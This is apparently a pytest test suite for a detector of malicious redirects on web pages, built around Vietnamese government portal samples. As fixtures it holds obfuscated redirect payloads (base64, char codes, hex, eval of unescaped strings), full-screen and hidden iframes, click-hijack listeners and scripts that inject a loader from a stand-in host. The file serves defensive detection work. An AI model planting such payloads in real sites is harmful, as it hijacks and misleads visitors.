"""Every form in which a page sends visitors on, and the forms that look like it and do not."""

import base64
import time

import pytest

from collector.decode.web.read import read_page, read_script

OWN = "https://xa.tinh.gov.vn/web/guest/tin.html"
TARGET = "https://dich.example/vao?id=1"
REVERSED = TARGET[::-1]
CODES = ",".join(str(ord(letter)) for letter in TARGET)
HEX = "".join(f"\\x{ord(letter):02x}" for letter in TARGET)
PACKED = base64.b64encode(TARGET.encode()).decode()


def page(body, head=""):
    start = f"<!doctype html><html lang=vi><head><title>Xã Đông Hòa</title>{head}</head><body>"
    return f"{start}<h1>Cổng thông tin</h1><p>Lịch tiếp công dân tháng này.</p>{body}</body></html>"


def targets(reading, automatic=True):
    return [(way.how, way.url) for way in reading.ways if way.automatic is automatic]


LISTENER = (
    "window.addEventListener('message', function (e) {{ if (e.origin !== 'https://{host}') return; "
    "if (e.data === 'login') document.location.href = 'https://{host}/remote-login.php?action=auth'; }}, false);"
)


def test_a_message_from_a_frame_is_no_click_of_the_visitor():
    reading = read_page(page(f"<script>{LISTENER.format(host='r-login.wordpress.com')}</script>"), OWN)
    assert (reading.signs, targets(reading)) == ((), [])
    assert "click_hijack" in {
        sign.kind for sign in read_page(page(f"<script>{LISTENER.format(host='x.example').replace('message', 'click')}</script>"), OWN).signs
    }


def test_what_a_page_may_cost_is_bounded_over_all_its_scripts():
    endless = "".join(f"<script>var n{number}=0;while(true)n{number}++;location='//x.example'</script>" for number in range(60))
    began = time.process_time()
    reading = read_page(endless, OWN)
    assert time.process_time() - began < 10
    assert "scripts: more work than a page may cost" in reading.unfolded


def test_control_characters_are_no_script():
    noise = "<script>var a=1;</script>" + "<script>" + "\x02\u20ac" * 60_000 + "</script>"
    began = time.process_time()
    assert read_page(noise, OWN).unfolded == ("script 2: control characters",)
    assert time.process_time() - began < 1


META = [
    f'<meta http-equiv="refresh" content="0;url={TARGET}">',
    f"<META HTTP-EQUIV=Refresh CONTENT='5; URL={TARGET}'>",
    f'<meta content="0; url=&quot;{TARGET}&quot;" http-equiv=" refresh ">',
    f'<meta http-equiv="&#114;efresh" content="3;&#117;rl={TARGET}">',
    f'<noscript><meta http-equiv="refresh" content="1;url={TARGET}"></noscript>',
    f'<meta http-equiv="refresh" content="600; {TARGET}">',
    f'<meta http-equiv="refresh" content="0,{TARGET}">',
    f"</head><body><div><meta http-equiv=refresh content='0;url={TARGET}'></div>",
]


@pytest.mark.parametrize("tag", META)
def test_meta_refresh(tag):
    assert targets(read_page(page("", tag), OWN)) == [("meta", TARGET)]


def test_delays_are_kept():
    assert [way.delay for way in read_page(page("", META[5]), OWN).ways] == [600.0]


@pytest.mark.parametrize(
    "tag",
    [
        f'<!-- <meta http-equiv="refresh" content="0;url={TARGET}"> -->',
        '<meta http-equiv="refresh" content="300">',
        '<meta http-equiv="refresh" content="0; url=">',
        f'<meta http-equiv="refresh" content="0; url={OWN}">',
        '<meta http-equiv="refresh" content="30; url=#top">',
        f'<meta name="refresh" content="0;url={TARGET}">',
        f'<textarea><meta http-equiv="refresh" content="0;url={TARGET}"></textarea>',
        '<meta http-equiv="refresh" content="0; url=javascript:void(0)">',
    ],
)
def test_no_refresh_elsewhere(tag):
    assert read_page(page(tag), OWN).ways == ()


def test_the_portal_software_s_own_start_page():
    reading = read_page('<html><head><meta content="1; url=/c" http-equiv="refresh"></head><body onload="location.replace(\'/c\')"></body></html>', OWN)
    assert {way.url for way in reading.ways} == {"https://xa.tinh.gov.vn/c"}
    assert reading.signs == ()


SCRIPTS = [
    f"location='{TARGET}'",
    f'window.location.href = "{TARGET}";',
    f"top.location.replace('{TARGET}')",
    f"document.location.assign('{TARGET}')",
    f"self['loc'+'ation']='{TARGET}'",
    f"location=atob('{PACKED}')",
    f"location.href=String.fromCharCode({CODES})",
    f"location.href='{HEX}'",
    f"window.location='{REVERSED}'.split('').reverse().join('')",
    f"setTimeout(function(){{location.href='{TARGET}'}}, 5000)",
    f"eval(unescape('location%3D%22{TARGET}%22'))",
    f'document.write(\'<meta http-equiv="refresh" content="0;url={TARGET}">\')',
    f"document.write(unescape('%3Cscript%3Elocation%3D%22{TARGET}%22%3C/script%3E'))",
]


@pytest.mark.parametrize("code", SCRIPTS)
def test_script(code):
    found = targets(read_page(page(f"<script>{code}</script>"), OWN))
    assert [url for _, url in found] == [TARGET]


@pytest.mark.parametrize("code", SCRIPTS[:10])
def test_the_same_script_by_itself(code):
    assert [url for _, url in targets(read_script(code, OWN))] == [TARGET]


@pytest.mark.parametrize(
    "handler", [f"<body onload=\"location='{TARGET}'\">", f"<img src=x onerror=\"location='{TARGET}'\">", f"<svg onload=\"location='{TARGET}'\">"]
)
def test_handlers_that_run_by_themselves(handler):
    assert targets(read_page(f"<html>{handler}<p>a</p></html>", OWN)) == [("script", TARGET)]


def test_types_that_no_browser_runs():
    assert read_page(page(f"<script type='text/template'>location='{TARGET}'</script>"), OWN).ways == ()
    assert read_page(page(f"<script src='/a.js'>location='{TARGET}'</script>"), OWN).ways == ()


@pytest.mark.parametrize(
    "code",
    [
        "document.forms[0].submit()",
        "document.getElementById('f').submit();",
        "document.f.submit()",
        "document.forms['f'].submit()",
        "document.forms.f.submit()",
        "window.onload=function(){document.f.submit()}",
        "setTimeout(function(){var x=document.querySelector('form');x.submit()},300)",
        "$('form').submit()",
    ],
)
def test_a_form_that_submits_itself(code):
    markup = page(f"<form id=f name=f action='{TARGET}' method=post><input name=a></form><script>{code}</script>")
    reading = read_page(markup, OWN)
    assert targets(reading) == [("form", TARGET)]
    assert reading.forms == ("dich.example",)


@pytest.mark.parametrize("code", ["function go(){document.f.submit()}", "document.getElementById('b').onclick=function(){document.f.submit()}"])
def test_a_form_that_waits(code):
    assert targets(read_page(page(f"<form name=f action='{TARGET}'><input name=a></form><script>{code}</script>"), OWN)) == []


def test_the_first_to_act_comes_first():
    markup = page(
        f"<script>setTimeout(function(){{location='https://ba.example/'}},9000)</script><script>location='{TARGET}'</script>",
        '<meta http-equiv=refresh content="2;url=https://hai.example/">',
    )
    assert [way.url for way in read_page(markup, OWN).ways] == [TARGET, "https://hai.example/", "https://ba.example/"]


FRAMES = [
    f'<iframe src="{TARGET}" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999"></iframe>',
    f'<iframe src="{TARGET}" style="width:100vw;height:100vh;border:0"></iframe>',
    f'<iframe src="{TARGET}" width="100%" height="100%" frameborder=0></iframe>',
]


@pytest.mark.parametrize("frame", FRAMES)
def test_a_frame_that_fills_the_page(frame):
    assert targets(read_page(page(frame), OWN)) == [("frame", TARGET)]


def test_a_frame_that_is_all_there_is():
    assert targets(read_page(f"<html><body><iframe src='{TARGET}' width=700 height=500></iframe></body></html>", OWN)) == [("frame", TARGET)]


def test_the_main_frame_of_a_frameset():
    markup = f"<html><frameset rows='0,*'><frame src='/leer.html'><frame src='{TARGET}'></frameset></html>"
    assert targets(read_page(markup, OWN)) == [("frame", TARGET)]


@pytest.mark.parametrize(
    "frame",
    [
        '<div style="position:relative"><iframe src="https://www.youtube.com/embed/x" style="position:absolute;width:100%;height:100%"></iframe></div>',
        '<div class=map><iframe src="https://www.google.com/maps/embed?pb=1" width="100%" height="100%"></iframe></div>',
        f'<iframe src="{TARGET}" width="300" height="250"></iframe>',
        '<iframe src="about:blank" width="100%" height="100%"></iframe>',
    ],
)
def test_frames_beside_the_page(frame):
    assert read_page(page(frame), OWN).ways == ()


def test_frames_with_their_markup_in_the_page():
    inner = f"<script>top.location='{TARGET}'</script>"
    for frame in (f'<iframe srcdoc="{inner}"></iframe>', f'<iframe src="data:text/html,{inner}"></iframe>'):
        assert [way.url for way in read_page(page(frame), OWN).ways] == [TARGET]


def test_relative_targets_follow_the_base():
    reading = read_page(page("<script>location='/x'</script>", "<base href='https://khac.example/a/'>"), OWN)
    assert [way.url for way in reading.ways] == ["https://khac.example/x"]
    assert [sign.kind for sign in reading.signs] == ["foreign_tag"]


def test_without_an_address_only_absolute_targets_are_ways():
    assert read_page(page("<script>location='/x'</script>"), "").ways == ()
    assert [way.url for way in read_page(page(f"<script>location='{TARGET}'</script>"), "").ways] == [TARGET]


def test_what_needs_a_click_is_offered():
    reading = read_page(page(f"<a href=\"javascript:location='{TARGET}'\">Xem</a>"), OWN)
    assert targets(reading) == []
    assert targets(reading, automatic=False) == [("script", TARGET)]


def test_the_first_click_anywhere():
    code = f"document.addEventListener('click', function(){{ window.open('{TARGET}') }})"
    reading = read_page(page(f"<script>{code}</script>"), OWN)
    assert [(sign.kind, sign.hosts) for sign in reading.signs] == [("click_hijack", ("dich.example",))]
    assert targets(reading, automatic=False) == [("popup", TARGET)]


def test_scripts_that_load_scripts():
    code = "var s=document.createElement('script');s.src='https://'+'tai'+'.example/a.js';document.head.appendChild(s)"
    reading = read_page(page(f"<script>{code}</script>"), OWN)
    assert reading.scripts == ("tai.example",)
    assert ("inserted_script", ("tai.example",)) in [(sign.kind, sign.hosts) for sign in reading.signs]


def test_scripts_that_write_frames():
    reading = read_page(page("<script>document.write('<ifr'+'ame src=//khung.example/ width=1 height=1></iframe>')</script>"), OWN)
    assert reading.frames == ("khung.example",)
    assert {sign.kind for sign in reading.signs} == {"inserted_script", "hidden_frame"}


@pytest.mark.parametrize(
    "code",
    [
        "(function(){var s=document.createElement('script');s.async=true;s.src='https://www.googletagmanager.com/gtag/js?id=G-1';document.head.appendChild(s)})()",
        "var js=document.createElement('script');js.src='https://connect.facebook.net/vi_VN/sdk.js';document.body.appendChild(js)",
        "if(top!=self){top.location=self.location}",
        "if(screen.width<700){location.href=location.href.replace('www.','m.')}",
        "document.cookie='a=1'; location.reload()",
    ],
)
def test_ordinary_scripts(code):
    reading = read_page(page(f"<script>{code}</script>"), OWN)
    assert reading.signs == ()
    assert [way for way in reading.ways if "xa.tinh.gov.vn" not in way.url] == []


def test_what_a_page_loads_and_links_to():
    markup = page(
        "<a href='https://bo.gov.vn/x'>Bộ</a><a href='/gioi-thieu.html'>Giới thiệu</a><a href='tin/1.html#a'>Tin</a>"
        "<a href='/tep.pdf'>Tệp</a><a href='mailto:a@b.vn'>Thư</a>"
        "<script src='https://cdn.example/a.js'></script><script src='/js/own.js'></script><iframe src='https://map.example/'></iframe>",
        "<meta name=generator content='Cổng 1.0'>",
    )
    reading = read_page(markup, OWN)
    assert (reading.title, reading.language, reading.generator) == ("Xã Đông Hòa", "vi", "Cổng 1.0")
    assert (reading.links, reading.scripts, reading.frames) == (("bo.gov.vn",), ("cdn.example",), ("map.example",))
    assert reading.own_scripts == ("https://xa.tinh.gov.vn/js/own.js",)
    assert reading.pages == ("https://xa.tinh.gov.vn/gioi-thieu.html", "https://xa.tinh.gov.vn/web/guest/tin/1.html")
    assert reading.words > 10
    assert reading.text != 0


def test_scripts_that_scripts_load_are_the_pages_to_look_at():
    markup = page(
        "<script src='//la.example/1.js'></script><script src='https://cdn.jsdelivr.net/x.js'></script>"
        "<script>var s=document.createElement('script');s.src='/js/them.js';document.body.appendChild(s);"
        "document.write('<script src=\"https://la.example/2.js\"><\\/script>');navigator.serviceWorker.register('/sw.js')</script>"
    )
    reading = read_page(markup, OWN)
    assert set(reading.own_scripts) == {"https://xa.tinh.gov.vn/js/them.js", "https://xa.tinh.gov.vn/sw.js"}
    assert reading.foreign_scripts == ("https://la.example/1.js", "https://la.example/2.js")


def test_what_a_worker_imports_from_elsewhere_is_told():
    reading = read_script("importScripts('https://la.example/sw.js')", "https://xa.tinh.gov.vn/sw.js")
    assert [(sign.kind, sign.hosts) for sign in reading.signs] == [("service_worker", ("la.example",))]
    assert read_script("importScripts('/workbox.js')", "https://xa.tinh.gov.vn/sw.js").signs == ()


def test_foreign_scripts_are_bounded():
    reading = read_page(page("".join(f"<script src='https://la{n}.example/1.js'></script>" for n in range(40))), OWN)
    assert len(reading.foreign_scripts) == 8
